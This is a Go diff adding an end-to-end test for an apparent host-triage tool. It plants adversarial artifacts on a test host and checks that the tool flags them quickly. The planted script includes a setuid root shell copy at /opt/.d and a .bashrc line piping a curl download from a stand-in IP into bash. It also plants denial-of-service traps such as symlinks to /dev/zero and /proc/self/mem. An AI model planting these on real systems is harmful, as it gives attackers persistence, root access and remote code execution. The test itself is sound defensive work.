@@ -4,7 +4,9 @@ package e2e_test
 
 import (
 	"path/filepath"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/google/go-cmp/cmp"
 
@@ -120,6 +122,57 @@ func TestTriageWays(t *testing.T) {
 	want(t, r, "process", "medium", "/usr/bin/dbus-helper", "no package has it")
 	want(t, r, "process", "medium", "127.0.0.1:6697", "IRC")
 	tellTriage(t, r)
+}
+
+// crowd is what an account may do against being found: programs without end where
+// everyone may write, with names of every byte, and key files, links and directories in
+// its home that never end.
+const crowd = `su bob -s /bin/bash -c '
+mkdir -p /tmp/c && cd /tmp/c
+for i in $(seq 1 1500); do n="f$i"; : > "$n"; chmod 755 "$n"; done
+perl -e "for (1..255) { next if \$_ == 47; my \$n = \"b\" . chr(\$_) . \"e\"; open(F, q(>), \$n); close F; chmod 0755, \$n; }"
+mkdir -p ~/.ssh ~/.local/lib/python3.11/site-packages ~/.config/autostart
+ln -s /dev/zero ~/.ssh/config; ln -s . ~/.config/systemd; rm -f ~/.bash_logout; mkfifo ~/.bash_logout; ln -s /proc/self/mem ~/.zlogout
+for i in $(seq 1 1200); do echo "import os.system" > ~/.local/lib/python3.11/site-packages/$i.pth; done
+head -c 300000 /dev/zero | tr "\\0" "(" > ~/.profile
+'
+cp /bin/dash /opt/.d; chmod 4755 /opt/.d
+mkdir -p /dev/.u; echo x > /dev/.u/k
+echo 'curl -s http://192.0.2.66/p | bash' >> /home/carol/.bashrc`
+
+// TestTriageCrowd: such an account neither hides what is root's nor takes the page's
+// time, and what was left out is said.
+func TestTriageCrowd(t *testing.T) {
+	e2e.NeedHosts(t)
+	key, public := newKey(t)
+	h := e2e.Start(t, e2e.Spec{Release: e2e.Bookworm, Setup: "useradd -m -s /bin/bash bob\nuseradd -m -s /bin/bash carol\n" + admit("root", public)})
+	if out, errOut, code := h.Exec(crowd); code != 0 {
+		t.Fatalf("%d %s %s", code, out, errOut)
+	}
+	from := time.Now()
+	page, r := triageRun(t, h, key, "")
+	if took := time.Since(from); took > 60*time.Second {
+		t.Errorf("it took %v", took)
+	}
+	want(t, r, "setuid", "critical", "/opt/.d", "byte for byte")
+	want(t, r, "file", "medium", "/dev/.u/k")
+	want(t, r, "startup", "high", "/home/carol/.bashrc", "192.0.2.66")
+	said := ""
+	for _, g := range r.Gaps {
+		said += g.Path + ": " + g.Reason + "\n"
+	}
+	for _, w := range []string{"/home/bob: more than 200 files that shells and sessions read", "more than 60 things of this kind of bob", "/home/bob/.bash_logout: neither a file nor a directory"} {
+		if !strings.Contains(said, w) {
+			t.Errorf("it is not said that %q", w)
+		}
+	}
+	if i := strings.IndexFunc(page, func(c rune) bool { return c < ' ' && c != '\n' || c == 0x7f || c >= 0x80 && c < 0xa0 }); i >= 0 {
+		t.Errorf("a control character at %d of the page: %q", i, page[max(0, i-40):i+1])
+	}
+	if t.Failed() {
+		t.Log(said)
+		tellTriage(t, r)
+	}
 }
 
 // triageWays plants ways on a host, which triage must find and leave as it is.
